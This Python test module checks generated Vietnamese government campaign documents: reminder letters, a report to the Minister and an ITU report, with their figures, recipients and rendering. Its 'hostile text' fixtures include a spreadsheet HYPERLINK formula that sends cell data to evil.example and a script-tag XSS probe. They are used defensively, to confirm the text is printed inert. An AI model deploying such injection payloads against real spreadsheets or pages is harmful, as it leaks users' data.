"""The three documents read back with python-docx: recipients, every figure, the fixed parts; hostile text as plain text.

Charts need Chromium (kaleido); the documents with charts are built once per module through one ChartRenderer.
Then each document through LibreOffice headless to PDF and poppler to PNG (saved in tests/artifacts/documents/).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pandas as pd
import pytest

from campaign import metrics
from campaign.errors import CampaignError
from campaign.report import evaluate, prepare
from data_sources.demo import DemoSource
from documents.charts import WIDTHS, ChartRenderer
from documents.final_report import (
    ACTIVITY_HEADER_EN,
    ACTIVITY_HEADER_VI,
    GROUP_HEADER_EN,
    GROUP_HEADER_VI,
    build_final_report,
    build_itu_report,
)
from documents.letter import build_letter, letters_zip, recipients
from documents.text import plain
from presentation import views
from presentation.figures import overview_figures
from presentation.formats import fmt_date, fmt_time
from tests.documents_helpers import (
    ARTIFACTS,
    body_texts,
    have_renderer,
    images,
    ink,
    number,
    open_docx,
    page_count,
    page_pngs,
    page_sizes,
    page_text,
    pdf_images,
    share,
    table_with_header,
    to_pdf,
)
from tests.sheets import SMALL_ROSTER, sheet, ticked

AFTER_DEADLINE = "2021-06-04T09:00"
BEFORE_DEADLINE = "2021-05-25T12:00"
NEW_DEADLINE = dt.date(2021, 6, 10)


@pytest.fixture(scope="module")
def prepared(config):
    return prepare(DemoSource(config).read(), config)


@pytest.fixture(scope="module")
def report(prepared):
    return evaluate(prepared, AFTER_DEADLINE)


@pytest.fixture(scope="module")
def renderer():
    with ChartRenderer() as r:
        yield r


@pytest.fixture(scope="module")
def reports(report, renderer):
    """The report to the Minister and the ITU report for the demo, one Chromium for both (saved for review)."""
    out = {
        "final": build_final_report(report, report.as_of, renderer=renderer),
        "itu": build_itu_report(report, report.as_of, renderer=renderer),
    }
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for name, data in out.items():
        (ARTIFACTS / f"{name}.docx").write_bytes(data)
    return out


def missing_names(report, groups=None, statuses=("missing",)) -> set[str]:
    agencies = report.agencies if not groups else report.agencies[report.agencies["group"].isin(groups)]
    return set(agencies.loc[agencies["status"].isin(statuses), "name"])


def kinh_gui(texts: list[str]) -> list[str]:
    """The recipients named after 'Kính gửi:' (one line, or '- X;' lines)."""
    at = next(i for i, t in enumerate(texts) if t.startswith("Kính gửi:"))
    first = texts[at].removeprefix("Kính gửi:").strip()
    if first:
        return [first.rstrip(".;")]
    names = []
    for line in texts[at + 1 :]:
        if not line.startswith("- "):
            break
        names.append(line[2:].rstrip(".;"))
    return names


def annex_names(doc) -> list[str]:
    table = doc.tables[-1]
    assert [c.text for c in table.rows[0].cells] == ["STT", "Tên cơ quan, đơn vị", "Tình trạng"]
    return [row.cells[1].text.replace("\u200b", "") for row in table.rows[1:] if row.cells[0].text.strip().isdigit()]


# The letter ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("as_of", [AFTER_DEADLINE, BEFORE_DEADLINE])
def test_the_annex_lists_exactly_the_agencies_missing_at_the_chosen_moment(prepared, config, as_of):
    report = evaluate(prepared, as_of)
    doc = open_docx(build_letter(report, report.as_of, NEW_DEADLINE))
    expected = missing_names(report)
    assert len(expected) > config.documents.letter.annex_after
    names = annex_names(doc)
    assert len(names) == len(set(names)) and set(names) == expected
    texts = body_texts(doc)
    assert kinh_gui(texts) == [config.documents.letter.annex_recipient]
    status = f"Đến {fmt_time(report.as_of)} ngày {fmt_date(report.as_of)}"
    assert any(t.startswith(status) for t in texts)


def test_earlier_moment_more_agencies_missing(prepared):
    early = missing_names(evaluate(prepared, BEFORE_DEADLINE))
    late = missing_names(evaluate(prepared, AFTER_DEADLINE))
    assert late < early  # the test above would pass for one moment only if recipients ignored the moment


def test_a_short_list_goes_in_kinh_gui_and_the_late_ones_on_request(report):
    groups = ["enterprise"]
    only_missing = open_docx(build_letter(report, report.as_of, NEW_DEADLINE, groups=groups))
    assert set(kinh_gui(body_texts(only_missing))) == missing_names(report, groups)
    with_late = open_docx(build_letter(report, report.as_of, NEW_DEADLINE, groups=["province"], include_late=True))
    expected = missing_names(report, ["province"], ("missing", "late"))
    assert set(annex_names(with_late)) == expected
    assert missing_names(report, ["province"], ("late",)), "the demo has a late Department: include_late must add it"
    assert any("sau thời hạn" in t for t in body_texts(with_late))


def test_date_line_original_letter_new_deadline_contact_and_signature(report, config):
    docs = config.documents
    texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, letter_day=dt.date(2021, 6, 5))))
    joined = "\n".join(texts)
    assert "Hà Nội, ngày 05 tháng 6 năm 2021" in texts
    assert docs.letter.number in texts and docs.issuer in texts and docs.national_title in texts and docs.motto in texts
    assert docs.letter.subject in texts
    assert "Công văn số … đề nghị" in joined and "ngày …/…/2021" in joined  # dots until the registry's number is known
    assert "trước ngày 4/6/2021" in joined and "trước ngày 10/6/2021" in joined
    who = config.campaign
    assert who.coordinator_name in joined and who.coordinator_phone in joined and who.contact_email in joined
    at = texts.index(docs.letter.cc_label)
    assert texts[at + 1 : at + 1 + len(docs.letter.cc)] == [f"- {c}" for c in docs.letter.cc]
    assert texts.index(docs.letter.signer_authority[0]) < texts.index(docs.letter.signer_name)
    assert docs.letter.closing in texts


def test_january_and_february_take_a_leading_zero_in_the_date_line(report):
    texts = body_texts(open_docx(build_letter(report, report.as_of, dt.date(2022, 2, 10), letter_day=dt.date(2022, 2, 3))))
    assert "Hà Nội, ngày 03 tháng 02 năm 2022" in texts


def test_one_letter_per_agency_as_a_zip_named_by_code(report):
    to = recipients(report, ["ministry"])
    archive = zipfile.ZipFile(io.BytesIO(letters_zip(report, report.as_of, NEW_DEADLINE, groups=["ministry"])))
    assert sorted(archive.namelist()) == sorted(f"{code}.docx" for code in to["code"])
    for code, name in zip(to["code"], to["name"]):
        assert kinh_gui(body_texts(open_docx(archive.read(f"{code}.docx")))) == [name]


def test_a_new_deadline_before_the_letter_or_nobody_to_write_to_is_refused(report, prepared):
    with pytest.raises(CampaignError, match="after the letter"):
        build_letter(report, report.as_of, dt.date(2021, 6, 1))
    everyone = prepared.roster.assign(status="on_time").iloc[0:0][["code", "name", "group", "status"]]
    with pytest.raises(CampaignError, match="nobody"):
        build_letter(report, report.as_of, NEW_DEADLINE, to=everyone)


# The report to the Minister --------------------------------------------------------------------------------------


def test_final_report_every_figure_equals_the_metrics(report, reports, config):
    doc = open_docx(reports["final"])
    texts = body_texts(doc)
    summary = metrics.summary(report)
    by_group = metrics.by_group(report).set_index("group")
    rows = table_with_header(doc, GROUP_HEADER_VI)
    labels = {config.group_label(g, "vi"): g for g in by_group.index}
    assert len(rows) == len(by_group) + 1
    for label, *cells in rows:
        want = summary if label == "Tổng cộng" else by_group.loc[labels[label]]
        keys = ("agencies_expected", "agencies_reported", "agencies_on_time", "agencies_late", "agencies_missing")
        assert [number(c) for c in cells[:5]] == [int(want[k]) for k in keys], label
        assert share(cells[5]) == pytest.approx(want["reporting_rate"], abs=0.0005)
    activities = metrics.activities(report).set_index("label_vi")
    act_rows = table_with_header(doc, ACTIVITY_HEADER_VI)
    assert [r[0] for r in act_rows] == list(activities.index)
    for label, agencies, quantity in act_rows:
        assert number(agencies) == activities.at[label, "agencies"]
        q = activities.at[label, "quantity"]
        assert (quantity == "—") if pd.isna(q) else number(quantity) == q
    assert views.headline(summary, report.as_of, "vi") in texts
    participants = next(t for t in texts if "tổng số người tham dự" in t)
    assert number(re.search(r"là ([\d.]+) người", participants).group(1)) == summary["participants"] > 0
    assert f"Số liệu tính đến {fmt_time(report.as_of)} ngày {fmt_date(report.as_of)}" in texts


def test_final_report_lists_the_missing_agencies_by_group_and_keeps_a_place_for_proposals(report, reports, config):
    texts = body_texts(open_docx(reports["final"]))
    start = texts.index("III. CÁC CƠ QUAN, ĐƠN VỊ CHƯA BÁO CÁO")
    end = texts.index("IV. ĐỀ XUẤT, KIẾN NGHỊ")
    listed = [re.sub(r"^\d+\. ", "", t) for t in texts[start:end] if re.match(r"^\d+\. ", t)]
    assert sorted(listed) == sorted(missing_names(report))
    assert texts[end + 1] == config.documents.report.proposals_placeholder
    assert config.documents.report.signer_authority[0] in texts and config.documents.report.cc_label in texts
    assert any(t.startswith("DỮ LIỆU MẪU") for t in texts), "demo data must say so in the document"


def test_final_report_has_four_charts_with_ink(reports):
    pictures = images(open_docx(reports["final"]))
    assert len(pictures) == 4
    assert all(ink(p) > 0.02 for p in pictures), [round(ink(p), 4) for p in pictures]


def test_the_group_filter_is_respected(prepared, renderer, config):
    report = evaluate(prepared, AFTER_DEADLINE)
    doc = open_docx(build_final_report(report, report.as_of, groups=["ministry"], renderer=renderer))
    rows = table_with_header(doc, GROUP_HEADER_VI)
    assert [r[0] for r in rows] == [config.group_label("ministry", "vi"), "Tổng cộng"]
    assert number(rows[-1][1]) == metrics.summary(report, ["ministry"])["agencies_expected"]


# Charts: one Chromium, no page reload between charts, the same picture whatever was drawn before ----------------


def test_a_chart_drawn_after_others_is_the_same_picture_as_drawn_first_and_the_page_is_never_reloaded(
    report, reports, renderer, config, monkeypatch
):
    from kaleido._kaleido_tab import _KaleidoTab

    reloads = []
    original = _KaleidoTab.reload

    async def counted(tab):
        reloads.append(tab)
        await original(tab)

    monkeypatch.setattr(_KaleidoTab, "reload", counted)
    frames = views.build_frames(report, None)
    figures = overview_figures(frames, config, "en")
    assert renderer.rendered >= 8 and renderer.started == 1  # the module's reports: 8 charts, one Chromium
    after_others = {key: renderer.png(fig, WIDTHS[key]) for key, fig in figures.items()}
    for key in ("map", "burnup"):  # each first in a Chromium of its own
        with ChartRenderer() as fresh:
            assert fresh.png(figures[key], WIDTHS[key]) == after_others[key], key
    assert reloads == []


def test_a_renderer_kept_open_draws_warm_and_closes_its_chromium_when_idle(report, config):
    import time

    figure = overview_figures(views.build_frames(report, None), config, "vi")["groups"]
    renderer = ChartRenderer(idle_s=1.5).open()
    try:
        first = renderer.png(figure, WIDTHS["groups"])
        assert renderer.png(figure, WIDTHS["groups"]) == first and renderer.started == 1
        time.sleep(3)  # idle: Chromium closed
        assert renderer.png(figure, WIDTHS["groups"]) == first and renderer.started == 2
    finally:
        renderer.close()
    assert renderer.rendered == 3


def test_a_renderer_whose_chromium_died_draws_the_next_chart_on_a_new_one(report, config):
    import os
    import signal

    figure = overview_figures(views.build_frames(report, None), config, "vi")["activities"]
    with ChartRenderer() as renderer:
        first = renderer.png(figure, WIDTHS["activities"])
        os.kill(renderer.browser_pid, signal.SIGKILL)  # as the out-of-memory killer would, in a long-lived app
        assert renderer.png(figure, WIDTHS["activities"]) == first
        assert renderer.started == 2


# The report for ITU -------------------------------------------------------------------------------------------


def test_itu_report_figures_source_and_moment(report, reports, config):
    doc = open_docx(reports["itu"])
    texts = body_texts(doc)
    summary = metrics.summary(report)
    rows = table_with_header(doc, GROUP_HEADER_EN)
    assert number(rows[-1][2]) == summary["agencies_reported"] and number(rows[-1][1]) == summary["agencies_expected"]
    activities = metrics.activities(report).set_index("label_en")
    for label, agencies, quantity in table_with_header(doc, ACTIVITY_HEADER_EN):
        assert number(agencies) == activities.at[label, "agencies"]
        q = activities.at[label, "quantity"]
        assert (quantity == "—") if pd.isna(q) else number(quantity) == q
    itu = activities.set_index("activity").loc["itu_session"]
    assert (
        f"Participation in ITU online sessions: {itu['agencies']} agencies attended {itu['quantity']} sessions in total." in texts
    )
    source = f"reports of {summary['agencies_reported']} agencies to the Ministry of Information and Communications"
    assert any(source in t and "09:00 on 04/06/2021" in t for t in texts)
    assert any(config.campaign.theme_en in t for t in texts)
    assert len(images(doc)) == 4


# Hostile text --------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")'
HTML = "<script>alert('x')</script><b>đậm</b>"
BIDI = "Cuộc thi\u202e ảnh\u2066 số\u200b"
CONTROL = "Hội\x01 thảo\x0b trực\x1f tuyến"
LONG = "Chuỗi dài không dấu cách " + "x" * 5000


def hostile_raw():
    roster = pd.concat(
        [
            SMALL_ROSTER,
            pd.DataFrame(
                [
                    ["X01", f"{HTML} Ban {FORMULA}", "ministry", "", "", "", ""],
                    ["X02", f"Đơn vị{BIDI}{CONTROL}", "ministry", "", "", "", ""],
                    ["X03", "Y" * 5000, "ministry", "", "", "", ""],
                ],
                columns=SMALL_ROSTER.columns,
            ),
        ],
        ignore_index=True,
    )
    others = [FORMULA, HTML, BIDI, CONTROL, LONG]
    codes = ["P01", "P31", "P35", "P42", "G18"]
    rows = [
        {"timestamp": f"2{i}/05/2021 09:00:00", "agency_code": code, "agency_name": code, "activities": ticked("rally", other=o)}
        for i, (code, o) in enumerate(zip(codes, others))
    ]
    return sheet(*rows, roster=roster)


@pytest.fixture(scope="module")
def hostile(config, renderer):
    report = evaluate(prepare(hostile_raw(), config), AFTER_DEADLINE)
    out = {
        "hostile_letter": build_letter(report, report.as_of, NEW_DEADLINE),
        "hostile_final": build_final_report(report, report.as_of, renderer=renderer),
        "hostile_itu": build_itu_report(report, report.as_of, renderer=renderer),
    }
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for name, data in out.items():
        (ARTIFACTS / f"{name}.docx").write_bytes(data)
    return report, out


def test_hostile_khac_text_and_names_come_out_as_plain_text(hostile):
    report, out = hostile
    final = "\n".join(body_texts(open_docx(out["hostile_final"])))
    for typed in (FORMULA, HTML):
        assert typed in final  # as the characters typed: nothing evaluated, nothing dropped
    for hidden in ("\u202e", "\u2066", "\x01", "\x0b", "\x1f"):
        assert hidden not in final
    assert "Cuộc thi ảnh số" in final and "Hội thảo trực tuyến" in final
    assert plain(LONG, 400).replace("\u200b", "") in final and "x" * 1000 not in final
    letter = open_docx(out["hostile_letter"])
    names = annex_names(letter)
    assert f"{HTML} Ban {FORMULA}" in names
    assert "Đơn vịCuộc thi ảnh sốHội thảo trực tuyến" in names
    assert any(n.startswith("Y" * 300) and n.endswith("…") and len(n) == 301 for n in names)
    assert set(names) == {plain(n, 300).replace("\u200b", "") for n in missing_names(report)}


# Rendering: LibreOffice headless → PDF → PNG -------------------------------------------------------------------


def test_libreoffice_and_poppler_are_installed():
    """.ci/run installs them (libreoffice-writer, fonts-liberation, poppler-utils): without them nothing below can run."""
    assert have_renderer(), "install libreoffice-writer, fonts-liberation and poppler-utils (see .ci/run)"


@pytest.fixture(scope="module")
def rendered(report, reports, hostile, tmp_path_factory):
    """Every document as PDF (one LibreOffice run, its own profile) and as page PNGs under tests/artifacts/documents/."""
    short = build_letter(report, report.as_of, NEW_DEADLINE, groups=["enterprise"])
    docs = {
        "letter": build_letter(report, report.as_of, NEW_DEADLINE),
        "letter_short": short,
        **reports,
        **hostile[1],
    }
    work = tmp_path_factory.mktemp("render")
    files = []
    for name, data in docs.items():
        path = work / f"{name}.docx"
        path.write_bytes(data)
        files.append(path)
    pdfs = to_pdf(files, work, work)
    for old in ARTIFACTS.glob("*.png"):
        old.unlink()
    pngs = {name: page_pngs(pdf, ARTIFACTS) for name, pdf in pdfs.items()}
    return pdfs, pngs, work


def annex_page(pdf) -> int:
    return next(p for p in range(1, page_count(pdf) + 1) if "DANH SÁCH CÁC CƠ QUAN" in page_text(pdf, p))


def test_letter_is_one_or_two_pages_plus_the_annex(rendered, report):
    pdfs, pngs, _ = rendered
    letter = pdfs["letter"]
    start = annex_page(letter)
    assert start in (2, 3)  # the letter itself: 1–2 pages
    missing = missing_names(report)
    listed = [page_text(letter, p).count("Chưa gửi báo cáo") for p in range(start, page_count(letter) + 1)]
    assert sum(listed) == len(missing), "every missing agency once in the annex"
    assert all(n >= 36 for n in listed[:-1]), f"annex pages are filled (a single-spaced 13 pt table): {listed}"
    groups = report.agencies.loc[report.agencies["name"].isin(missing), "group"].nunique()
    assert len(listed) == -(-(len(missing) + groups) // listed[0]), "no page more than the rows need"
    assert "Phan Tâm" in "".join(page_text(letter, p) for p in range(1, start))
    assert page_count(pdfs["letter_short"]) in (1, 2)
    assert "Kính gửi: Tập đoàn" in page_text(pdfs["letter_short"], 1)


def test_reports_render_on_a4_with_every_chart_inked(rendered):
    pdfs, pngs, work = rendered
    assert 4 <= page_count(pdfs["final"]) <= 9
    assert "Số liệu tính đến 09:00 ngày 04/06/2021" in page_text(pdfs["final"], 1)
    itu_first = page_text(pdfs["itu"], 1)
    assert "Agencies that took part, by kind" in itu_first and "Source: reports of" in itu_first  # one page of text
    assert page_count(pdfs["itu"]) <= 4
    for name in ("final", "itu", "hostile_final", "hostile_itu"):
        pictures = [p for p in pdf_images(pdfs[name], work) if ink(p) > 0]
        assert len(pictures) >= 4, name
        assert sorted(ink(p) for p in pictures)[-4] > 0.02, name  # the four charts are drawn, not blank
    for name, pdf in pdfs.items():
        assert page_sizes(pdf) == {"595.304 x 841.89 pts"}, name  # A4, every page
        assert all(ink(png) > 0.001 for png in pngs[name]), f"{name}: a blank page"


def test_hostile_text_does_not_break_the_layout(rendered):
    pdfs, _, _ = rendered
    assert page_count(pdfs["hostile_letter"]) <= 3
    assert page_count(pdfs["hostile_final"]) <= 8
    text = "".join(page_text(pdfs["hostile_final"], p) for p in range(1, page_count(pdfs["hostile_final"]) + 1))
    assert "=HYPERLINK(" in text and "<script>" in text  # printed as typed
    widest = max(len(line) for line in text.splitlines())
    assert widest < 200, "a line runs off the page"
